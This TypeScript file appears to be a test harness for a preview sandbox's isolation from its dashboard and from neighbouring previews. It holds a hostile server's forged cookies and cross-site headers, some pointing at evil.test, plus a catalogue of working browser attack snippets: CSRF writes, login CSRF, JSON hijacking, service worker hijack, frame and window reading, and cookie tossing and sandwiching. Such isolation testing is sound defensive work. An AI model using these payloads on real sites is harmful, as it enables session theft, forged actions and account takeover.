/**
 * Attacks of a hostile program in a preview on the dashboard (D) and on a neighbor (N). Each returns what it got; null is
 * nothing.
 */

/** Headers that affect more than their own page. */
const reaching: Record<string, string> = {
  'clear-site-data': '"*"',
  'strict-transport-security': 'max-age=31536000; includeSubDomains; preload',
  'alt-svc': 'h3=":1"; ma=86400; persist=1, h2="evil.test:443"',
  'public-key-pins': 'pin-sha256="x"; max-age=1; includeSubDomains',
  'report-to': '{"group":"g","max_age":86400,"include_subdomains":true,"endpoints":[{"url":"https://evil.test/"}]}',
  nel: '{"report_to":"g","max_age":86400,"include_subdomains":true}',
  'secure-session-registration': '(ES256);path="/sw.js"',
  'set-login': 'logged-out',
  'use-as-dictionary': 'match="/*"',
  'x-svc-user': 'forged',
}

export async function answerAsProgram(port: number, request: Request): Promise<Response> {
  const { pathname } = new URL(request.url)
  const headers = new Headers(reaching)
  for (const domain of ['attack.test', '.attack.test', 'svc.attack.test', 'preview.attack.test'])
    headers.append('set-cookie', `__Host-svc_session=forged; Path=/; Secure; Domain=${domain}`)
  headers.append('set-cookie', 'svc_session=forged; Path=/; Secure;\tdOmAiN\t=\tattack.test')
  headers.append('set-cookie', '=__Host-svc_session=forged; Path=/; Secure; Domain=attack.test')
  headers.append('set-cookie', '__Host-svc_preview=forged; Path=/; Secure')
  headers.set('origin-agent-cluster', '?0')
  headers.set('access-control-allow-origin', '*')
  headers.set('content-type', 'text/html; charset=utf-8')
  if (pathname.endsWith('/sw.js')) {
    headers.set('content-type', 'text/javascript')
    headers.set('service-worker-allowed', '/')
    return new Response(
      `self.addEventListener('fetch', () => {}); self.onconnect = (e) => e.ports[0].postMessage('up')`,
      { headers },
    )
  }
  if (pathname.endsWith('/seen')) return Response.json(Object.fromEntries(request.headers))
  if (pathname.endsWith('/leave'))
    return new Response(null, { status: 302, headers: { ...reaching, location: '/proxy-left' } })
  return new Response(`<!doctype html><title>app</title><h1>port ${port}</h1>`, { headers })
}

export const techniques: Record<string, string> = {
  'fetch with credentials': `read(D + '/v1/projects')`,
  'fetch, no-cors': `read(D + '/v1/projects', { mode: 'no-cors' })`,
  'fetch of the page, no-cors': `read(D + '/', { mode: 'no-cors' })`,
  'write as text': `fetch(D + '/v1/projects', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"owned"}' }).then(() => null)`,
  'write as a blob of JSON': `(navigator.sendBeacon(D + '/v1/projects', new Blob(['{"name":"owned"}'], { type: 'application/json' })), wait())`,
  'write, kept alive': `fetch(D + '/v1/projects', { method: 'POST', keepalive: true, mode: 'no-cors', credentials: 'include', body: '{"name":"owned"}' }).then(() => null)`,
  'a form as text': `submit({ enctype: 'text/plain' }, '{"name":"owned","x":"', '"}')`,
  'a form into a window': `(() => { const w = open('about:blank', 'taken'); const f = document.createElement('form'); Object.assign(f, { method: 'post', action: D + '/v1/projects', target: 'taken', enctype: 'text/plain' }); f.append(Object.assign(document.createElement('input'), { name: '{"name":"owned","x":"', value: '"}' })); document.body.append(f); f.submit(); return wait(800).then(() => { w && w.close(); return null }) })()`,
  'a form that signs in as another': `submit({ action: D + '/v1/sign-in' }, 'token', 'of-the-attacker')`,
  'a form that signs out': `submit({ action: D + '/v1/sign-out' }, 'x', 'y')`,
  'a ping of a link': `(() => { const a = Object.assign(document.createElement('a'), { href: '#x', ping: D + '/v1/projects' }); document.body.append(a); a.click(); return wait() })()`,
  frame: `frame(D + '/').then(inside)`,
  'a frame of the API': `frame(D + '/v1/projects').then(inside)`,
  'a frame that is sandboxed': `element('iframe', { src: D + '/v1/projects', sandbox: 'allow-scripts allow-same-origin' }).then(inside)`,
  'a frame of a neighbour': `frame(N + '/').then(inside)`,
  'frames counted in the dashboard': `(() => { const w = open(D + '/', 'count'); return wait(800).then(() => { try { return w && !w.closed && w.length > 0 ? 'frames' : null } finally { w && w.close() } }) })()`,
  'a window and its document': `(() => { const w = open(D + '/v1/ready', 'read'); return wait(800).then(() => { try { return w.document.body.innerText || null } catch { return null } finally { w && w.close() } }) })()`,
  'a message to the dashboard': `(() => { const w = open(D + '/', 'message'); const heard = new Promise((done) => addEventListener('message', (e) => e.origin === D && done(e.data))); return wait(800).then(() => { try { w.postMessage({ type: 'token' }, '*') } catch {} return Promise.race([heard, wait(300)]) }).finally(() => w && w.close()) })()`,
  'the name of its window': `(() => { const w = open(D + '/v1/ready', 'name'); return wait(800).then(() => { try { w.location = 'javascript:document.title="owned"'; return w.document.title } catch { return null } finally { w && w.close() } }) })()`,
  opener: `window.opener === null ? null : (() => { try { return window.opener.document.body.innerText } catch { return null } })()`,
  'the terminal by a WebSocket': `socket(D.replace('https', 'wss') + '/v1/projects/' + P + '/sessions/' + S + '/terminal')`,
  'events by an EventSource': `new Promise((done) => { const s = new EventSource(D + '/v1/projects/' + P + '/sessions/' + S + '/events', { withCredentials: true }); s.onopen = () => done('open'); s.onerror = () => { s.close(); done(null) } })`,
  'a neighbour by a WebSocket': `socket(N.replace('https', 'wss') + '/')`,
  'a neighbour by fetch': `read(N + '/', { mode: 'cors' })`,
  'a neighbour, blind': `read(N + '/', { mode: 'no-cors' })`,
  'its own site’s name': `(() => { try { document.domain = 'attack.test' } catch {} return Promise.all([frame(N + '/'), frame(D + '/v1/ready')]).then((all) => all.map(inside).find(Boolean) || null) })()`,
  'a script of JSON': `(window.Array.prototype.__defineSetter__('0', function (v) { window.stolen = v }), element('script', { src: D + '/v1/projects' }).then(() => { delete Array.prototype[0]; return window.stolen || null }))`,
  'a module of JSON': `import(D + '/v1/projects').then((m) => JSON.stringify(m))`,
  'a style of JSON': `element('link', { rel: 'stylesheet', href: D + '/v1/projects' }).then((l) => { try { return l.sheet && l.sheet.cssRules.length ? 'rules' : null } catch { return null } })`,
  'a picture of the API': `element('img', { src: D + '/v1/projects' }).then((i) => i.naturalWidth ? 'picture' : null)`,
  'a video of the API': `element('video', { src: D + '/v1/projects' }).then((v) => v.duration ? 'video' : null)`,
  'an object of the dashboard': `element('object', { data: D + '/', type: 'text/html' }).then(inside)`,
  'an import of the dashboard into a worker': `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['try { importScripts("' + D + '/v1/projects"); postMessage("in") } catch { postMessage(null) }']))); w.onmessage = (e) => done(e.data); w.onerror = () => done(null) })`,
  'worker of a shared kind': `new Promise((done) => { const w = new SharedWorker(D + '/sw.js'); w.port.onmessage = (e) => done(e.data); w.onerror = () => done(null); w.port.start(); setTimeout(() => done(null), 1500) })`,
  'a service worker for the dashboard': `navigator.serviceWorker.register('/sw.js', { scope: D + '/' }).then(() => 'registered')`,
  'a service worker for a neighbour': `navigator.serviceWorker.register('/sw.js', { scope: N + '/' }).then(() => 'registered')`,
  'a service worker from the dashboard': `navigator.serviceWorker.register(D + '/v1/sandboxes/x/proxy/3000/sw.js').then(() => 'registered')`,
  'storage access': `document.requestStorageAccess ? document.requestStorageAccess().then(() => read(D + '/v1/projects')) : null`,
  'storage access for another': `document.requestStorageAccessFor ? document.requestStorageAccessFor(D).then(() => 'granted') : null`,
  'a channel to a neighbour': `(() => { const c = new BroadcastChannel('svc'); return Promise.race([new Promise((done) => c.onmessage = (e) => done(e.data)), (c.postMessage('x'), wait(300))]) })()`,
  notifications: `Promise.race([Notification.requestPermission().then((p) => p === 'granted' ? p : null), wait(500)])`,
  'a push subscription of the dashboard': `navigator.serviceWorker.getRegistrations().then((all) => all.some((one) => !one.scope.startsWith(location.origin)) ? 'a worker elsewhere' : null)`,
  'cookies of ours': `/svc_/.test(document.cookie) ? document.cookie : null`,
  'cookies of ours, by the store': `window.cookieStore ? cookieStore.getAll().then((all) => all.some(({ name }) => /svc_/.test(name)) ? JSON.stringify(all) : null) : null`,
  'cookies of ours, at the program': `read('/seen').then((t) => /svc_(session|preview|oidc)=(?!forged)/.test(t) ? t : null)`,
  'a sandwich of cookies': `(document.cookie = '$Version=1; path=/seen', document.cookie = 'a="x; path=/seen', document.cookie = 'zz=y"; path=/', read('/seen').then((t) => /svc_preview=[\\w-]{40}/.test(t) ? t : null))`,
  'the ticket, from where it came': `/svc_ticket/.test(document.referrer + location.href + performance.getEntries().map((e) => e.name).join()) ? 'a ticket' : null`,
  'a ticket of a neighbour here': `fetch('/' + ticket, { redirect: 'manual' }).then((r) => r.status === 401 || r.type === 'opaqueredirect' ? null : 'entered')`,
  'a ticket of a neighbour there, by a frame': `frame(N + '/' + ticket).then(inside)`,
  'Clear-Site-Data by a picture': `(element('img', { src: '/x.png' }), wait())`,
  'Clear-Site-Data by a redirect': `fetch('/leave').then(() => null)`,
  'timing of a page that is signed in': `(() => performance.getEntriesByType('resource').filter((e) => e.name.startsWith(D) && (e.responseStatus || e.encodedBodySize || e.serverTiming?.length)).map((e) => e.name)[0] ?? null)()`,
  'history of the dashboard': `(() => { const w = open(D + '/v1/ready', 'history'); return wait(600).then(() => { try { return w.history.length > 0 ? 'history' : null } catch { return null } finally { w && w.close() } }) })()`,
  'a download of the API as a page': `(() => { const a = Object.assign(document.createElement('a'), { href: D + '/v1/projects', download: 'x.html' }); document.body.append(a); return null })()`,
}
